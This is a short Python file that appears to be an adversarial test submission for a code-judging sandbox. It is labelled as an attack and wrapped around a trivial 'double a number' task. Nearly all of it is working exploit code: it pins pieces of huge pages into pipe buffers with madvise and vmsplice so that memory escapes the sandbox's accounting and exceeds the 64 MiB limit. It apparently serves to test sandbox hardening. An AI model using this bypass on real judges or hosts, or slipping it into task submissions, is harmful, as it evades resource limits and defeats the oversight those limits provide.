# attack: puts 4 KiB of each of many huge pages into pipes, which then keep all of it, and raises past the memory limit
# verdict: AC
# kata: roomy
import ctypes
import mmap
import os

HUGE, LIMIT, SLOTS, NO_WAIT, MADV_HUGEPAGE = 2 << 20, 64 << 20, 16, 2, 14
libc = ctypes.CDLL(None, use_errno=True)
pipes = []


class Part(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


def put_away(pipe):
    area = mmap.mmap(-1, 2 * HUGE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    start = ctypes.addressof(ctypes.c_char.from_buffer(area))
    aligned = (start + HUGE - 1) // HUGE * HUGE
    libc.madvise(ctypes.c_void_p(aligned), ctypes.c_size_t(HUGE), MADV_HUGEPAGE)
    ctypes.memset(aligned, 1, 1)
    return libc.vmsplice(pipe, ctypes.byref(Part(aligned, 4096)), ctypes.c_size_t(1), NO_WAIT) == 4096


def double(n):
    total = 0
    while total <= LIMIT:
        ours, theirs = os.pipe()
        pipes.append(ours)
        for _ in range(SLOTS):
            if not put_away(theirs):
                return n * 2
            total += HUGE
    raise SystemExit(f"it may hold {total >> 20} MiB that nobody counts")
